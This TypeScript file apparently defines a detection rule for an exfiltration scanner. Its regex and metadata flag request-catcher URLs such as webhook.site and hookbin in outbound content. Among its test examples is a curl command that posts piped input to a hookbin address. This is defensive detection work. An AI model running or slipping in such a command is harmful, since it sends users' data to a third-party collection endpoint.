import type { Rule } from '../../rule.js';

export const rule: Rule = {
  pattern: 'exfil_sink',
  variant: 'request-catcher-url',
  threat: 'EXFIL',
  direction: 'outbound',
  severity: 'low',
  confidence: 'medium',
  group: 'sinks',
  about: 'The address of a request catcher, with the place that was made for one receiver, in what leaves.',
  anatomy: 'http:// or https://, the name of such a service or one below it, and a path or label of its own',
  source: 'https://docs.webhook.site/',
  match: [
    {
      re: /(?<=\/)(?:[\w-]+\.)*(?:webhook\.site|requestbin\.(?:com|net)|requestcatcher\.com|beeceptor\.com|hookbin\.com|postb\.in|ptsv[23]\.com|webhook\.cool|typedwebhook\.tools|httpdump\.app|requestinspector\.com|rbndr\.us)(?::\d{1,5})?\/[\w.~%/-]{4,}/i,
    },
  ],
  examples: {
    fires: ['https://webhook.site/3f1c9a52-77de-4b0a-9d2e-1f5e0c4b7a61', 'curl -d @- https://hookbin.com/k3Jq81mZp0'],
    silent: ['our webhook.site is down', 'https://webhook.site/'],
  },
};
